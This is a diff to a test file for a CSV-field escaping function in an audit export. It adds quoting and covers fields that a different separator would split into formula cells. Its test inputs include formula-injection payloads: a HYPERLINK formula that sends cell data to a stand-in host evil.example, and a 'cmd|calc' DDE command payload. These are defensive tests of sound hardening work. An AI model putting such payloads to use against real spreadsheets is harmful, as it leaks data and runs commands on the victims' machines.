@@ -17,13 +17,19 @@ describe('CSV fields of an audit export', () => {
     expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"open")')).toBe(
       `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
     );
-    expect(csvField('+1+cmd|calc')).toBe(`'+1+cmd|calc`);
-    expect(csvField('-2+3')).toBe(`'-2+3`);
-    expect(csvField('@SUM(A1)')).toBe(`'@SUM(A1)`);
-    expect(csvField('\tx')).toBe(`'\tx`);
+    expect(csvField('+1+cmd|calc')).toBe(`"'+1+cmd|calc"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
+    expect(csvField('\tx')).toBe(`"'\tx"`);
     expect(csvField('\rx')).toBe(`"'\rx"`);
     // Only a leading character counts: an e-mail or a change text passes unchanged.
     expect(csvField('ada@example.com')).toBe('ada@example.com');
     expect(csvField('rotated A=B')).toBe('rotated A=B');
+  });
+
+  it('quotes a field that another separator would split into formula cells', () => {
+    // Read with `;` as the separator, the unquoted field was three cells, the second a formula.
+    expect(csvField('x;=1+1;@x.test')).toBe('"x;=1+1;@x.test"');
+    expect(csvField('a\t=1+1')).toBe('"a\t=1+1"');
   });
 });
